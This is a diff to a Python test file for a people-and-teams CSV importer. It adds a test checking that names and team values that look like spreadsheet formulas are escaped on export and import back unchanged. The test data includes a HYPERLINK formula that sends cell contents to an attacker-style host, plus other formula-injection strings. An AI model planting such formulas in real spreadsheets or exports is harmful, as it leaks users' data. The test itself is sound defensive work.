@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 from datetime import date, datetime
 from pathlib import Path
 from typing import Any
@@ -281,3 +282,22 @@ def test_new_people_are_staged_invisibly_and_appear_together(org: Organization) 
     assert all(people == 0 and active == 0 for _, people, active in staged)  # nothing visible yet
     assert Person.objects.count() == 1200 and User.objects.filter(is_active=True).count() == 1200
     assert Team.objects.count() == 3
+
+
+def test_names_and_teams_that_look_like_formulas_are_escaped_in_the_export_and_import_back(
+    org: Organization,
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    run(
+        org,
+        f'"{evil.replace(chr(34), chr(34) * 2)}",ev@acme.test,seller,,,@SUM(1+1),',
+        "-Bo,bo@acme.test,seller,,,+Team,",
+    )
+    assert person("ev@acme.test").name == evil  # the import takes the text as it is
+    export = people_export(org)
+    cells = [cell for line in export.text.splitlines()[1:] for cell in next(csv.reader([line]))]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+    assert "'@SUM(1+1)" in cells and "'-Bo" in cells
+    before = state()
+    assert people_import(org, export.text, today=TODAY) == PeopleImportResult(created=0, updated=0, unchanged=2)
+    assert state() == before
